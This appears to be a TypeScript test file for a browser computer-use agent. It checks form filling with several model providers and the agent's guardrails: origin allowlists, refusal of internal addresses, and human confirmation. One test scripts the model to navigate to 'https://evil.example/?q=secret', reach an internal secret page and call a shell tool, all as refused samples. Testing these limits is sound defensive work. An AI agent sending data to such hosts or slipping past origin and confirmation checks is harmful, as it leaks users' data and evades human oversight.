import { assert, describe, it } from "@effect/vitest"
import { Effect, Fiber } from "effect"
import { executable, site } from "../../connectors/computer/screens.ts"
import * as AnthropicServer from "../../fixtures/AnthropicServer.ts"
import * as ResponsesServer from "../../fixtures/ResponsesServer.ts"
import { claude, computer, filled, make, sentTo, shop } from "./computer.ts"

describe.skipIf(executable === undefined)("ComputerUse (needs chromium)", () => {
  it.scopedLive("fills in a form and sends it, with OpenAI's tool", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const { log, questions, responses, run, stored } = yield* make({
        allow: [server.rule],
        confirms: () => true,
        openai: [
          computer("c1", [{ type: "screenshot" }]),
          computer("c2", [
            { type: "click", x: 50, y: 20, button: "left" },
            { type: "type", text: "Ada" },
            { type: "keypress", keys: ["TAB"] },
            { type: "type", text: "Bonn" }
          ]),
          computer("c3", [{ type: "keypress", keys: ["ENTER"] }], [{
            id: "s1",
            code: "irrelevant_domain",
            message: "Look"
          }]),
          "It is sent."
        ]
      })
      const { Reply, Screenshots, Steps } = yield* run({
        settings: { model: "gpt", origins: server.url, startUrl: `${server.url}/` },
        inputs: { Prompt: "Send the form" }
      })
      assert.strictEqual(Reply, "It is sent.")
      assert.deepStrictEqual(sentTo(server), filled)
      assert.deepStrictEqual(questions.map(({ detail, kind }) => [kind, detail]), [
        ["check", "Look"],
        ["submit", `POST ${server.url}/send`]
      ])

      const [first, second, third, fourth] = responses()
      assert.deepInclude(first!.tools[0], { type: "function", name: "navigate" })
      assert.deepStrictEqual(first!.tools[1], { type: "computer" })
      assert.strictEqual(first!["store"], false)
      assert.match(JSON.stringify(first!.input[1]), /"type":"input_image","detail":"auto","image_url":"data:image\/png/)
      // Each call goes back as it came, behind what was thought, with the screen after it.
      assert.deepInclude(second!.input[2], { type: "reasoning", id: "rs_c1", encrypted_content: "sealed" })
      assert.deepInclude(second!.input[3], { type: "computer_call", id: "cu_c1", call_id: "c1", status: "completed" })
      assert.deepInclude(second!.input[4], { type: "computer_call_output", call_id: "c1" })
      assert.match(
        String((second!.input[4]!["output"] as Record<string, unknown>)["image_url"]),
        /^data:image\/png;base64/
      )
      assert.notProperty(third!.input[7], "acknowledged_safety_checks")
      assert.deepStrictEqual(
        fourth!.input.find((item) => item["call_id"] === "c3" && "output" in item)?.[
          "acknowledged_safety_checks"
        ],
        [{ id: "s1", code: "irrelevant_domain", message: "Look" }]
      )

      // Every action is an event, with a picture of the agent's own.
      const steps = Steps as ReadonlyArray<{ readonly action: { readonly type: string }; readonly screenshot: string }>
      assert.deepStrictEqual(
        steps.map(({ action }) => action.type),
        ["navigate", "screenshot", "click", "type", "key", "type", "key"]
      )
      assert.lengthOf(Screenshots as ReadonlyArray<unknown>, 7)
      const told = log.filter(([, message]) => message.includes("smythfs://a1.agent/")).map(([, message]) => message)
      assert.lengthOf(told, 7)
      assert.include(told[3], "type 3 characters")
      assert.notInclude(log.join(), "Ada")
      const bytes = yield* stored(steps.at(-1)!.screenshot)
      assert.deepStrictEqual(Array.from(bytes.slice(1, 4)), [0x50, 0x4e, 0x47])
      assert.include(told.at(-1), steps.at(-1)!.screenshot)
    }), 60_000)

  it.scopedLive("fills in a form and sends it, with Anthropic's tool", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const { messages, run, said } = yield* make({
        allow: [server.rule],
        anthropic: [
          { toolCalls: [{ name: "navigate", arguments: { url: `${server.url}/` } }], reasoning: "First of all" },
          claude({ action: "left_click", coordinate: [50, 20] }),
          claude({ action: "type", text: "Adx" }),
          claude({ action: "key", text: "BackSpace" }),
          claude({ action: "type", text: "a\tBonn" }),
          claude({ action: "left_click", coordinate: [50, 100] }, "toolu_last"),
          "It is sent."
        ]
      })
      const { Reply } = yield* run({
        settings: { model: "claude", prompt: "Send the form", origins: [server.url], confirm: "none", width: "800" }
      })
      assert.strictEqual(Reply, "It is sent.")
      assert.deepStrictEqual(sentTo(server), filled)
      assert.strictEqual(messages[0]?.headers["anthropic-beta"], "computer-use-2025-11-24")
      const tool = { type: "computer_20251124", name: "computer", display_width_px: 800, display_height_px: 800 }
      assert.deepStrictEqual(said()[0]!.tools[1], tool)
      const [call, result] = said().at(-1)!.messages.slice(-2)
      assert.deepInclude(call!.content[0], {
        type: "tool_use",
        id: "toolu_last",
        name: "computer",
        input: { action: "left_click", coordinate: [50, 100] }
      })
      assert.deepInclude(result!.content[0], { type: "tool_result", tool_use_id: "toolu_last" })
      assert.match(JSON.stringify(result), /"type":"image","source":\{"type":"base64","media_type":"image\/png"/)
      assert.notProperty(result!.content[0], "is_error")
    }), 60_000)

  it.scopedLive("fills in a form and sends it, with Anthropic's tool on Bedrock", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const { converse, run } = yield* make({
        allow: [server.rule],
        bedrock: [
          { toolCalls: [{ name: "navigate", arguments: { url: `${server.url}/` } }] },
          claude({ action: "left_click", coordinate: [50, 20] }),
          claude({ action: "type", text: "Ada\tBonn" }),
          claude({ action: "key", text: "Return" }),
          "It is sent."
        ]
      })
      const { Reply } = yield* run({
        settings: { model: "bedrock", prompt: "Send the form", origins: [server.url], confirm: "none", height: "600" }
      })
      assert.strictEqual(Reply, "It is sent.")
      assert.deepStrictEqual(sentTo(server), filled)
      const fields = JSON.stringify(converse()[0]?.["additionalModelRequestFields"])
      assert.include(fields, `"display_height_px":600`)
      assert.match(JSON.stringify(converse().at(-1)?.messages.at(-1)), /"toolResult":.*"image":\{"format":"png"/)
    }), 60_000)

  it.scopedLive("asks the older models in their words, and none that has no tool for it", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const { messages, responses, run, said } = yield* make({
        allow: [server.rule],
        openai: [
          {
            packets: [
              ResponsesServer.item({
                type: "computer_call",
                id: "cu_1",
                call_id: "c1",
                status: "completed",
                pending_safety_checks: [],
                action: { type: "scroll", x: 9, y: 9, scroll_x: 0, scroll_y: 50 }
              }),
              ResponsesServer.ended("completed")
            ]
          },
          "done"
        ],
        anthropic: ["done"]
      })
      const given = (model: string) => ({ settings: { model, prompt: "Look", origins: server.url } })
      const { Steps } = yield* run(given("preview"))
      assert.deepStrictEqual((Steps as ReadonlyArray<{ readonly action: unknown }>)[1]?.action, {
        type: "scroll",
        at: { x: 9, y: 9 },
        x: 0,
        y: 50,
        held: []
      })
      assert.deepStrictEqual(responses()[0]!.tools[1], {
        type: "computer_use_preview",
        environment: "browser",
        display_width: 1280,
        display_height: 800
      })
      assert.strictEqual(responses()[0]!["truncation"], "auto")
      yield* run(given("sonnet"))
      assert.strictEqual(messages[0]?.headers["anthropic-beta"], "computer-use-2025-01-24")
      assert.deepInclude(said()[0]!.tools[1], { type: "computer_20250124" })
      assert.include((yield* Effect.flip(run(given("groq")))).message, "\"groq\" cannot use a computer")
      assert.include(
        (yield* Effect.flip(run(given("old")))).message,
        "\"claude-3-opus-20240229\" cannot use a computer"
      )
    }), 60_000)

  it.scopedLive(
    "tells the model what was refused: other origins, addresses inside, what nobody confirmed",
    () =>
      Effect.gen(function*() {
        const server = yield* site(shop)
        const inside = yield* site({ "/": "SECRET" })
        const { log, run, said } = yield* make({
          allow: [server.rule],
          anthropic: [
            { toolCalls: [{ name: "navigate", arguments: { url: "https://evil.example/?q=secret" } }] },
            { toolCalls: [{ name: "navigate", arguments: { url: `${inside.url}/` } }] },
            { toolCalls: [{ name: "navigate", arguments: { url: `${server.url}/` } }] },
            claude({ action: "left_click", coordinate: [50, 100] }),
            claude({ action: "key", text: "ctrl+q" }),
            claude({ action: "left_click", coordinate: [5000, 100] }),
            claude({ action: "fly", coordinate: [1, 1] }),
            { toolCalls: [{ name: "shell", arguments: {} }] },
            "I cannot."
          ]
        })
        const { Reply, Steps } = yield* run({
          settings: {
            model: "claude",
            prompt: "Send the form",
            origins: `${server.url}\n${inside.url}`,
            startUrl: `${server.url}/`,
            confirm: "submit, keys"
          }
        })
        assert.strictEqual(Reply, "I cannot.")
        const told = said().slice(1).map(({ messages }) => JSON.stringify(messages.at(-1)?.content))
        for (
          const [turn, expected] of [
            "https://evil.example is not an allowed origin",
            "not public",
            "done",
            `POST ${server.url}/send needs the confirmation of a person`,
            "press Control+q needs the confirmation of a person",
            "5000, 100 is not on the screen",
            "It was not done: it is none of the actions there are",
            "There is no such tool"
          ].entries()
        ) assert.include(told[turn], expected)
        assert.deepStrictEqual(sentTo(server), [])
        assert.strictEqual(inside.connections(), 0)
        assert.lengthOf((Steps as ReadonlyArray<object>).filter((step) => "refused" in step), 4)
        assert.notInclude(log.join(), "secret")
      }),
    60_000
  )

  it.scopedLive("does nothing the provider has doubts about unless a person looks", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const doubts = [{ id: "s1", code: "malicious_instructions", message: "This page wants too much" }]
      const { responses, run } = yield* make({
        allow: [server.rule],
        openai: [computer("c1", [{ type: "click", x: 50, y: 100, button: "left" }], doubts), "I stop."]
      })
      const { Reply, Steps } = yield* run({
        settings: { model: "gpt", prompt: "Go", origins: server.url, startUrl: `${server.url}/`, confirm: "none" }
      })
      assert.strictEqual(Reply, "I stop.")
      assert.deepInclude((Steps as ReadonlyArray<object>)[1], {
        refused: "This page wants too much needs the confirmation of a person, which was not given"
      })
      assert.deepStrictEqual(responses()[1]!.input.map(({ role, type }) => role ?? type), ["system", "user", "user"])
      assert.deepStrictEqual(sentTo(server), [])
    }), 60_000)

  it.scopedLive(
    "takes no answer in time for a no, asks for answers of a length, and keeps screenshots for so long",
    () =>
      Effect.gen(function*() {
        const server = yield* site(shop)
        const { questions, run, said, stored } = yield* make({
          allow: [server.rule],
          confirms: () => Effect.never,
          anthropic: [claude({ action: "left_click", coordinate: [50, 100] }), "I stop."]
        })
        const { Screenshots } = yield* run({
          settings: {
            model: "claude",
            prompt: "Go",
            origins: server.url,
            startUrl: `${server.url}/`,
            confirm: "clicks",
            confirmTimeout: "1",
            maxTokens: "777",
            ttl: "2"
          }
        })
        assert.deepStrictEqual(questions.map(({ kind }) => kind), ["clicks"])
        assert.deepStrictEqual(sentTo(server), [])
        assert.strictEqual(said()[0]!["max_tokens"], 777)
        const { url } = (Screenshots as ReadonlyArray<{ readonly url: string }>).at(-1)!
        yield* stored(url)
        yield* Effect.sleep("2100 millis")
        assert.include((yield* Effect.flip(stored(url))).message, "No object")
      }),
    60_000
  )

  it.scopedLive("ends after so many actions, and says what was done", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const { run } = yield* make({
        allow: [server.rule],
        anthropic: [claude({ action: "mouse_move", coordinate: [1, 1] })]
      })
      const given = { model: "claude", prompt: "Go", origins: server.url, startUrl: `${server.url}/`, maxSteps: 3 }
      const error = yield* Effect.flip(run({ settings: given }))
      assert.strictEqual(error.message, "maxSteps: the task was not done with 3 actions")
      assert.lengthOf(error.outputs?.["Steps"] as ReadonlyArray<unknown>, 4)
      const none = yield* Effect.flip(run({ settings: { ...given, origins: "https://a.example/path" } }))
      assert.include(none.message, "is no origin")
      const away = yield* Effect.flip(run({ settings: given, inputs: { StartUrl: "https://b.example/" } }))
      assert.include(away.message, "https://b.example is not an allowed origin")
    }), 60_000)

  it.scopedLive("frees its screen when it is interrupted while the model thinks", () =>
    Effect.gen(function*() {
      const server = yield* site(shop)
      const { run, said } = yield* make({
        allow: [server.rule],
        anthropic: [{ packets: [AnthropicServer.started()], then: "silence" }]
      })
      const given = { settings: { model: "claude", prompt: "Go", origins: server.url, startUrl: `${server.url}/` } }
      // More often than there are screens.
      for (let n = 0; n < 2; n++) {
        const fiber = yield* Effect.fork(run(given))
        yield* Effect.repeat(Effect.sleep("20 millis"), { until: () => said().length > n })
        yield* Fiber.interrupt(fiber)
      }
    }), 60_000)
})
